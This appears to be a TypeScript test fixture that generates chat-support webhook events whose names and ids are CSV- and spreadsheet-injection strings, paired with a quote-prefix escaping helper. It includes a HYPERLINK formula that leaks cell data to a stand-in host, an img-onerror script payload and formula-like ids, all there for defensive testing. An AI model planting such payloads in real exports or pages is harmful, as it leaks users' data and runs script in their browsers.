/**
 * A small, hand-written history whose names are hostile: each of the twelve values below is an
 * agent's name, a group's name and a channel's name somewhere. Values a CSV writer or a
 * spreadsheet can trip over: separators, quotes, line breaks, formulas, markup, bidi and
 * zero-width characters.
 */
export const HOSTILE = [
  'Smith, Jane',
  'The "Best" Team',
  'Line one\r\nLine two',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+1 555 0100',
  '-2',
  '@SUM(A1:A2)',
  '\tTabbed',
  '\rCarriage',
  '<img src=x onerror=alert(1)>',
  'مرحبا\u200F Support\u200B',
  '\uFF1D1+1', // full-width equals sign, which some spreadsheets also read as a formula
] as const;

/** How a text cell reads back: with a `'` in front where it starts like a formula (README, "CSV reports"). */
export const escaped = (value: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value);

const N = HOSTILE.length;
export const agentId = (i: number) => `agent-${i}`;
export const groupId = (i: number) => `group-${i}`;
export const channelId = (i: number) => `channel-${i}`;
/** Conversation 3 has a hostile id of its own; ids come from outside too. */
export const conversationId = (i: number) => (i === 3 ? '=1+2' : `conv-${i}`);
export const agentName = (i: number) => HOSTILE[i]!;
export const groupName = (i: number) => HOSTILE[(i + 1) % N]!;
export const channelName = (i: number) => HOSTILE[(i + 2) % N]!;
/** Conversation i is created on 2026-10-(i+1) at 09:00 UTC. */
export const createdAt = (i: number) => Date.UTC(2026, 9, i + 1, 9);
const HOUR = 3_600_000;
const iso = (ms: number) => new Date(ms).toISOString();

type Change = [string | null, string | null];
type Step = {
  event: 'onConversationCreate' | 'onConversationUpdate';
  i: number;
  at: number;
  status: string;
  agent: number | null;
  changes?: { status?: Change; assigned_agent_id?: Change; assigned_group_id?: Change };
  statistics?: Record<string, number>;
  actor?: { id: string; type: string };
};

function envelope(step: Step) {
  const { i } = step;
  const agent = step.agent;
  const group = step.status === 'new' ? null : i;
  return {
    account_id: 'acc-hostile',
    domain: 'hostile.freshchat.example',
    event: step.event,
    region: 'EU',
    timestamp: step.at,
    version: '1.0.0',
    data: {
      actor: step.actor ?? (agent === null ? { id: `user-${i}`, type: 'user' } : { id: agentId(agent), type: 'agent', first_name: agentName(agent), last_name: '' }),
      associations: {
        channel: { id: channelId(i), name: channelName(i) },
        ...(group === null ? {} : { group: { id: groupId(group), name: groupName(group), agents: [agentId(group)] } }),
        ...(agent === null ? {} : { agent: { id: agentId(agent), first_name: agentName(agent), last_name: '', max_active_conv: agent + 1 } }),
      },
      changes: step.changes ? { model_changes: step.changes } : null,
      conversation: {
        conversation_id: conversationId(i),
        channel_id: channelId(i),
        source: 'WEBCHAT',
        status: step.status,
        created_time: iso(createdAt(i)),
        updated_time: iso(step.at),
        assigned_group_id: group === null ? null : groupId(group),
        assigned_agent_id: agent === null ? null : agentId(agent),
        first_agent_assigned_time: step.status === 'new' ? null : iso(createdAt(i) + HOUR),
        resolved_time: step.status === 'resolved' ? iso(step.at) : null,
        ...(step.statistics ? { statistics: step.statistics } : {}),
      },
    },
  };
}

/**
 * Every conversation i: created (new) at 09:00, assigned to group i and agent i at 10:00.
 * Then conversation 0 is reassigned from agent 0 to agent 1 at 12:00 and resolved at 14:00;
 * conversation 1 is resolved at 11:00; conversation 2 carries a negative statistic (bad data);
 * conversation 4 was created by an actor whose id looks like a formula.
 */
export function hostileEvents() {
  const steps: Step[] = [];
  for (let i = 0; i < N; i++) {
    const t0 = createdAt(i);
    steps.push({ event: 'onConversationCreate', i, at: t0, status: 'new', agent: null, ...(i === 4 ? { actor: { id: '+user', type: 'user' } } : {}) });
    steps.push({
      event: 'onConversationUpdate',
      i,
      at: t0 + HOUR,
      status: 'assigned',
      agent: i,
      changes: { status: ['new', 'assigned'], assigned_group_id: [null, groupId(i)], assigned_agent_id: [null, agentId(i)] },
      ...(i === 2 ? { statistics: { wait_time_bhrs: -1.5, wait_time_chrs: 0.25 } } : {}),
    });
  }
  steps.push({ event: 'onConversationUpdate', i: 0, at: createdAt(0) + 3 * HOUR, status: 'assigned', agent: 1, changes: { assigned_agent_id: [agentId(0), agentId(1)] } });
  steps.push({
    event: 'onConversationUpdate',
    i: 0,
    at: createdAt(0) + 5 * HOUR,
    status: 'resolved',
    agent: 1,
    changes: { status: ['assigned', 'resolved'] },
    statistics: { first_response_time_bhrs: 2, first_response_time_chrs: 3.45, resolution_time_bhrs: 4, resolution_time_chrs: 5 },
  });
  steps.push({
    event: 'onConversationUpdate',
    i: 1,
    at: createdAt(1) + 2 * HOUR,
    status: 'resolved',
    agent: 1,
    changes: { status: ['assigned', 'resolved'] },
    statistics: { first_response_time_bhrs: 1, first_response_time_chrs: 3.44, resolution_time_bhrs: 3, resolution_time_chrs: 6 },
  });
  return steps.map(envelope);
}
